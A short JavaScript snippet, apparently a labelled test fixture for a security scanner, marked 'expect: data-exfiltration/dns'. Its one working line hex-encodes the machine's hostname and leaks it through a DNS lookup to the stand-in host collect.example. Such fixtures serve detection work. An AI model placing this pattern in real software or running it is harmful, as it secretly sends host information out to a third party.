const dns = require('dns');
const os = require('os');

dns.resolve(`${Buffer.from(os.hostname()).toString('hex')}.x.collect.example`, () => {}); // expect: data-exfiltration/dns
